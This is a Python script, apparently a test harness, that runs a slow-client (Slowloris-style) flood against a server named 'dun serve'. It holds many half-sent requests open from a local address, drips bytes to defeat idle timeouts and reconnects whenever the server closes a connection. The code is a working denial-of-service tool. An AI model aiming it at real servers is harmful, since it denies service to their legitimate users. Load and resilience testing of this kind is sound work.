"""A slow-client flood against dun serve: many connections from one address,
each sending half a request line and then holding it, a byte every few
seconds, so that an idle timeout alone never frees them. A connection the
server closes is opened again at once, as an attacker would.

usage: slowflood.py HOST PORT SOURCE_ADDRESS COUNT STATUSFILE

SOURCE_ADDRESS is the local address the flood comes from (127.0.0.2: a
client on this machine other than Kannel, which uses 127.0.0.1). Writes
"connected N open M closed K" to STATUSFILE every half second: N connections
made so far, M open now, K closed by the server. Runs until killed.
"""
import os
import resource
import socket
import sys
import time

host, port, source, count, status = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 64)), hard))

HALF = b"GET /mo?from=%2B1212555"  # half a request line: never a whole one
socks, made, closed = [], 0, 0


def connect():
    global made
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(True)
    s.settimeout(2)
    s.bind((source, 0))
    s.connect((host, port))
    s.send(HALF)
    s.setblocking(False)
    made += 1
    return s


def alive(s):
    """False once the server has closed it (EOF or reset)."""
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


last_drip = last_status = 0.0
while True:
    budget = count if made < count else 50  # re-open at most 50 a round once full
    while len(socks) < count and budget > 0:
        budget -= 1
        try:
            socks.append(connect())
        except OSError:
            time.sleep(0.05)
            break
    now = time.monotonic()
    if now - last_drip >= 3:  # one byte now and then: the request never ends
        for s in socks:
            try:
                s.send(b"0")
            except OSError:
                pass
        last_drip = now
    keep = []
    for s in socks:
        if alive(s):
            keep.append(s)
        else:
            closed += 1
            s.close()
    socks = keep
    if now - last_status >= 0.5:
        with open(status + ".new", "w") as f:
            f.write("connected %d open %d closed %d\n" % (made, len(socks), closed))
        os.replace(status + ".new", status)
        last_status = now
    time.sleep(0.2)
